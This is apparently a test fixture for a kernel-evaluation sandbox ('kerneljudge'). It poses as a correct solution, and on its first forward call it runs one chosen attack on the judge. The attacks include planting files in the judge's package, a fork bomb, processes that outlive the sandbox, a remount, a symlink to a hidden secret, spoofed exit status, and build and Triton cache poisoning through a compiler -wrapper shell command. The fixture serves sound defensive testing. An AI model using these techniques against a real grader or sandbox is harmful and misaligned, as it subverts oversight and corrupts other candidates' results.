"""Correct output for level2/51; at its first call, one attack on the judge, chosen by $KJ_TEST_ATTACK,
whose outcome it writes to $KJ_TEST_OUT/<attack> (tests/test_sandbox.py makes that folder writable):

    plant    a bytecode file beside the judge's modules and a file in its package (catalog row 26)
    store    bytes appended to the results store ($KJ_TEST_STORE), a 0.001 GB/s bandwidth written into the
             cache ($KJ_TEST_CACHE) (rows 27-28)
    escape   a double fork with setsid whose survivor ignores SIGTERM, a child that ignores SIGTERM, a daemon
             thread (row 27); each sleeper appends its pid to $KJ_TEST_OUT/escape and carries $KJ_TEST_TOKEN
             on its command line
    network  a connection to 127.0.0.1:$KJ_TEST_PORT, a socket the test listens on
    bomb     sleeping children forked until fork fails (at most 2000): how many
    peek     the results store ($KJ_TEST_STORE) read (other candidates' sources), and a connection to the
             judge server's socket ($KERNELJUDGE_SOCKET, as the judge sees it), where it would ask for
             evaluations under the user's name
    hog      HOG_CHILDREN children that each write HOG_MB of memory (each under the per-process address-space
             limit, together over the worker's memory limit) and hold it: how many held it at once
    swell    up to SWELL_MB written into an anonymous memory file: memory the address-space limit does not
             see, the memory cgroup does; "survived" if it got through
    remount  the capabilities it holds (CapEff), then the mount holding the judge's package remounted writable
             (a bind remount without MS_RDONLY: "remount 0" if the kernel let it) and a file planted there
    sysctl   a kernel setting written back with its own value (/proc/sys/kernel/core_uses_pid: no change made if
             it gets through), as a worker whose user id is root's could write any without a capability
    tail     its output log (in its own folder) swapped for a link to $KJ_TEST_SECRET, a file hidden from it, then
             the process ended: the judge reads the log's tail into the result
    fifo     its output log swapped for a FIFO, then the process ended: the judge's read would wait for a writer
    triton   a file left in Triton's cache ($TRITON_CACHE_DIR), where a later worker's Triton would load a module
             planted under a key every candidate shares (its CUDA driver helper's): "found" if an earlier worker's is
             there
    sysv     a System V shared memory segment made at key $KJ_TEST_SHM_KEY and left behind: a channel to a later
             worker (another candidate's) that no file or mount rule sees
    siblings the folders beside its own ($TMPDIR's parent holds every worker's): its own folder's name, then
             each name it sees there
    journal  the results store's WAL file ($KJ_TEST_STORE-wal) read once another evaluation has written into the
             store after the worker started (it says so in $KJ_TEST_OUT/journal-written; the attack writes
             journal-waiting first): "read N found" where the other's secret ($KJ_TEST_SECRET) is in it
    status   digits written into every pipe its init (pid 1) or its parent holds, where the launcher reads the
             worker's exit status (1472 before init's own 768, exit 3, reads as 1472768: exit 121, the launcher's
             code for a sandbox it could not set up), then exit 3: "wrote N", the pipes it wrote
    setup    exit 121 at once, the launcher's own code for a sandbox it could not set up
    builds   a file written into the build cache ($KJ_TEST_CACHE/builds), where a later worker would load it as
             another candidate's extension, then an extension built with a compiler `-wrapper` that writes
             there too (the judge's builder runs the candidate's flags): the worker's write, "built" and the
             extension's answer
"""
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import torch
import torch.nn as nn

import kerneljudge

SLEEPER = ("import os, signal, sys, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
           "open(os.path.join(os.environ['KJ_TEST_OUT'], 'escape'), 'a').write(f'{os.getpid()}\\n'); time.sleep(600)")
MOST_FORKS = 2000
HOG_CHILDREN, HOG_MB = 3, 600
SWELL_MB = 4096
HOLDER = ("import os, sys, time; block = bytearray(b'x') * (int(sys.argv[1]) << 20); "
          "open(sys.argv[2], 'a').write(f'{os.getpid()}\\n'); time.sleep(600)")


def write(path: Path, data: bytes, mode: str = "wb") -> str:
    """'written', or 'blocked ERRNO'."""
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, mode) as out:
            out.write(data)
        return "written"
    except OSError as exc:
        return f"blocked {exc.errno}"


def plant() -> str:
    package = Path(kerneljudge.__file__).parent
    return "\n".join((write(package / "__pycache__" / "zz_kj_planted.cpython-311.pyc", b"\x00" * 16),
                      write(package / "zz_kj_planted.txt", b"planted")))


def store() -> str:
    return "\n".join((write(Path(os.environ["KJ_TEST_STORE"]), b"kj-planted", "ab"),
                      write(Path(os.environ["KJ_TEST_CACHE"]) / "bandwidth" / "planted.json", b'{"gbps": 0.001}')))


def escape() -> None:
    command = [sys.executable, "-c", SLEEPER, os.environ["KJ_TEST_TOKEN"]]
    subprocess.Popen(command)  # a direct child
    if os.fork() == 0:  # double fork: the grandchild leaves the session and is orphaned
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, command)
        os._exit(0)
    threading.Thread(target=lambda: time.sleep(600), daemon=True).start()


def network() -> str:
    try:
        with socket.create_connection(("127.0.0.1", int(os.environ["KJ_TEST_PORT"])), timeout=10) as conn:
            conn.sendall(b"kj-exfiltrated")
        return "connected"
    except OSError as exc:
        return f"blocked {exc.errno}"


def bomb() -> str:
    started = 0
    while started < MOST_FORKS:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        started += 1
    return str(started)


def peek() -> str:
    try:
        read = f"read {len(Path(os.environ['KJ_TEST_STORE']).read_bytes())}"
    except OSError as exc:
        read = f"blocked {exc.errno}"
    try:
        with socket.socket(socket.AF_UNIX) as conn:
            conn.settimeout(10)
            conn.connect(os.environ["KERNELJUDGE_SOCKET"])
            conn.sendall(b"kj-request")
        connected = "connected"
    except OSError as exc:
        connected = f"blocked {exc.errno}"
    return f"{read}\n{connected}"


def journal() -> str:
    out = Path(os.environ["KJ_TEST_OUT"])
    write(out / "journal-waiting", b"")
    for _ in range(600):  # at most 30 s for the other evaluation's write
        if (out / "journal-written").exists():
            break
        time.sleep(0.05)
    try:
        data = Path(os.environ["KJ_TEST_STORE"] + "-wal").read_bytes()
    except OSError as exc:
        return f"blocked {exc.errno}"
    return f"read {len(data)} {'found' if os.environ['KJ_TEST_SECRET'].encode() in data else 'absent'}"


def status() -> None:
    wrote = 0
    for pid in sorted({1, os.getppid()}):
        try:
            descriptors = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in descriptors:
            try:
                if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                    with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as pipe:
                        pipe.write(b"1472")
                    wrote += 1
            except OSError:
                pass
    write(Path(os.environ["KJ_TEST_OUT"], "status"), f"wrote {wrote}".encode())
    os._exit(3)


def hog() -> str:
    held = Path(os.environ["KJ_TEST_OUT"]) / "hog-held"
    children = [subprocess.Popen([sys.executable, "-c", HOLDER, str(HOG_MB), str(held)]) for _ in range(HOG_CHILDREN)]
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:  # each child holds its memory or was killed
        done = len(held.read_text().split()) if held.exists() else 0
        if done + sum(c.poll() is not None for c in children) >= HOG_CHILDREN:
            break
        time.sleep(0.1)
    time.sleep(1)  # the kernel may kill a holder only as the last one allocates
    return str(sum(c.poll() is None for c in children))


def swell() -> str:
    memory_file = os.memfd_create("kj-swell")
    chunk = b"x" * (64 << 20)
    for _ in range(SWELL_MB // 64):
        os.write(memory_file, chunk)
    return "survived"


def remount() -> str:
    import ctypes

    package = str(Path(kerneljudge.__file__).resolve().parent)
    effective = next(line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff:"))
    points = [line.split()[4] for line in open("/proc/self/mountinfo")]
    point = max((p for p in points if package == p or package.startswith(p.rstrip("/") + "/")), key=len)
    libc = ctypes.CDLL(None, use_errno=True)
    done = libc.mount(None, point.encode(), None, ctypes.c_ulong(32 | 4096), None)  # MS_REMOUNT | MS_BIND
    return "\n".join((f"capeff {effective}", f"remount {ctypes.get_errno() if done else 0}",
                      write(Path(package) / "zz_kj_remounted.txt", b"planted")))


def swapped_log(make) -> None:
    log = Path.cwd() / "output.log"
    log.unlink()
    make(log)
    sys.stdout.flush()
    os._exit(3)


def sysctl() -> str:
    setting = Path("/proc/sys/kernel/core_uses_pid")
    return write(setting, setting.read_bytes())


def sysv() -> str:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    made = libc.shmget(int(os.environ["KJ_TEST_SHM_KEY"]), 4096, 0o1000 | 0o2000 | 0o600)  # IPC_CREAT | IPC_EXCL
    return f"made {made}" if made >= 0 else f"blocked {ctypes.get_errno()}"


LIGHT_SOURCE = '#include "kj_constant_module.h"\nKJ_CONSTANT_MODULE(kj_light_one, 1)\n'  # in ../, builds at once


def build_cache() -> str:
    from torch.utils.cpp_extension import load_inline

    builds = Path(os.environ["KJ_TEST_CACHE"]) / "builds"
    # quoted for the shell ninja runs the compiler in, "$$" for ninja itself: gcc runs the shell at every step
    wrapper = f"'/bin/sh,-c,echo planted > {builds}/kj_planted_by_the_compiler; exec \"$$0\" \"$$@\"'"
    worker = write(builds / "kj_planted_by_the_worker", b"planted")
    extension = load_inline(name="kj_sandbox_wrapped", cpp_sources=[LIGHT_SOURCE], no_implicit_headers=True,
                            extra_cflags=["-wrapper", wrapper], extra_include_paths=[str(Path(__file__).parents[1])])
    return f"{worker}\nbuilt {extension.kj_light_one()}"


def triton_cache() -> str:
    marker = Path(os.environ["TRITON_CACHE_DIR"]) / "kj_planted_by_an_earlier_worker"
    found = marker.exists()
    outcome = write(marker, b"planted")
    return f"{'found' if found else 'fresh'} {outcome}"


def siblings() -> str:
    own = Path(os.environ["TMPDIR"])
    return "\n".join([own.name, *sorted(path.name for path in own.parent.iterdir())])


ATTACKS = {"siblings": siblings, "builds": build_cache,
           "triton": triton_cache, "sysv": sysv, "sysctl": sysctl, "tail": lambda: swapped_log(lambda log: log.symlink_to(os.environ["KJ_TEST_SECRET"])),
           "fifo": lambda: swapped_log(os.mkfifo), "remount": remount, "plant": plant, "store": store,
           "escape": escape, "network": network, "bomb": bomb, "peek": peek, "journal": journal, "status": status, "setup": lambda: os._exit(121), "hog": hog, "swell": swell}


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        self.gemm = nn.Linear(in_features, out_features, bias=bias)
        self.subtract = nn.Parameter(torch.randn(out_features))
        self.done = False

    def forward(self, x):
        if not self.done:
            self.done = True
            name = os.environ["KJ_TEST_ATTACK"]
            outcome = ATTACKS[name]()
            if outcome is not None:
                write(Path(os.environ["KJ_TEST_OUT"], name), outcome.encode())
        c = -self.subtract.mean() + self.gemm.bias.mean()
        return x + torch.nn.functional.gelu(x @ self.gemm.weight.mean(0) + c).unsqueeze(1)
